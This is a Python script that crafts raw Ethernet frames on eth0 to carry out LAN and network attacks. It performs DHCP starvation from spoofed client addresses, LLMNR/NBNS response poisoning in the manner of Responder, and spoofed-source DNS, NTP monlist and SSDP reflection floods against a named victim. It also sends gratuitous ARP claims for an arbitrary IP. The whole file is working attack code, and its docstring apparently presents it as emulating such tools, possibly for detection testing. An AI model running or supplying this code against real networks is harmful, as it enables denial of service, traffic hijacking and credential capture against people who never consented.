"""Frames that programs which are not packaged would send, from a raw socket on eth0. First argument: what.

  starve COUNT PAUSE              DHCPDISCOVER from COUNT made-up clients (as dhcpig and yersinia do)
  poison KIND SECONDS             answers every LLMNR or NBNS question with the own address (as Responder does)
  reflect VICTIM:IP MAC:IP PORT COUNT PAUSE   small questions in the victim's name (as stressers do)
  answer-arp IP COUNT PAUSE       announces IP as its own (gratuitous ARP)
"""
import os, random, select, socket, struct, sys, time

ETH = 'eth0'
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind((ETH, 0))
OWN_MAC = link.getsockname()[4]


def own_ip():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(('224.0.0.251', 1))
        return socket.inet_aton(s.getsockname()[0])


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(dst_mac, src_mac, src, dst, sport, dport, body):
    pseudo = src + dst + struct.pack('>BBH', 0, 17, 8 + len(body))
    head = struct.pack('>HHHH', sport, dport, 8 + len(body), 0)
    head = head[:6] + struct.pack('>H', checksum(pseudo + head + body) or 0xFFFF)
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 28 + len(body), random.randrange(65536), 0, 64, 17, 0, src, dst)
    ip = ip[:10] + struct.pack('>H', checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b'\x08\x00' + ip + head + body


def mac_of(text):
    return bytes.fromhex(text.replace(':', ''))


def starve(count, pause):
    for _ in range(int(count)):
        client = bytes([random.randrange(256) & 0xFE]) + os.urandom(5)
        body = struct.pack('>BBBBIHH16x', 1, 1, 6, 0, random.randrange(1 << 32), 0, 0x8000) + client + bytes(10 + 192)
        body += b'\x63\x82\x53\x63\x35\x01\x01\x3d\x07\x01' + client + b'\x37\x04\x01\x03\x06\x0f\xff'
        link.send(udp(b'\xff' * 6, client, bytes(4), b'\xff' * 4, 68, 67, body))
        time.sleep(float(pause))


def poison(kind, seconds):
    me = own_ip()
    port = {'llmnr': 5355, 'nbns': 137}[kind]
    until = time.time() + float(seconds)
    while time.time() < until:
        if not select.select([link], [], [], 0.1)[0]:
            continue
        frame = link.recv(2048)
        if frame[12:14] != b'\x08\x00' or frame[23] != 17 or frame[26:30] == me:
            continue
        at = 14 + (frame[14] & 15) * 4
        sport, dport = struct.unpack('>HH', frame[at:at + 4])
        question = frame[at + 8:]
        if dport != port or len(question) < 16 or question[2] & 0x80:
            continue
        end = question.index(b'\0', 12) + 5
        name = question[12:end - 4]
        if kind == 'llmnr':
            body = question[:2] + struct.pack('>HHHHH', 0x8000, 1, 1, 0, 0) + question[12:end]
            body += name + struct.pack('>HHIH', 1, 1, 30, 4) + me
        else:
            body = question[:2] + struct.pack('>HHHHH', 0x8500, 0, 1, 0, 0)
            body += name + struct.pack('>HHIHH', 0x20, 1, 165, 6, 0) + me
        link.send(udp(frame[6:12], OWN_MAC, me, frame[26:30], port, sport, body))


QUESTIONS = {
    53: b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x03net\x00\x00\xff\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00',
    123: b'\x17\x00\x03\x2a' + bytes(4),
    1900: b'M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nST:ssdp:all\r\nMAN:"ssdp:discover"\r\nMX:1\r\n\r\n',
}


def reflect(victim, reflector_mac, reflector, port, count, pause):
    sport = random.randrange(1024, 65536)
    for _ in range(int(count)):
        question = QUESTIONS[int(port)]
        link.send(udp(mac_of(reflector_mac), OWN_MAC, socket.inet_aton(victim), socket.inet_aton(reflector), sport, int(port), question))
        time.sleep(float(pause))


def answer_arp(ip, count, pause):
    address = socket.inet_aton(ip)
    for _ in range(int(count)):
        body = struct.pack('>HHBBH', 1, 0x0800, 6, 4, 1) + OWN_MAC + address + bytes(6) + address
        link.send(b'\xff' * 6 + OWN_MAC + b'\x08\x06' + body)
        time.sleep(float(pause))


{'starve': starve, 'poison': poison, 'reflect': reflect, 'answer-arp': answer_arp}[sys.argv[1]](*sys.argv[2:])
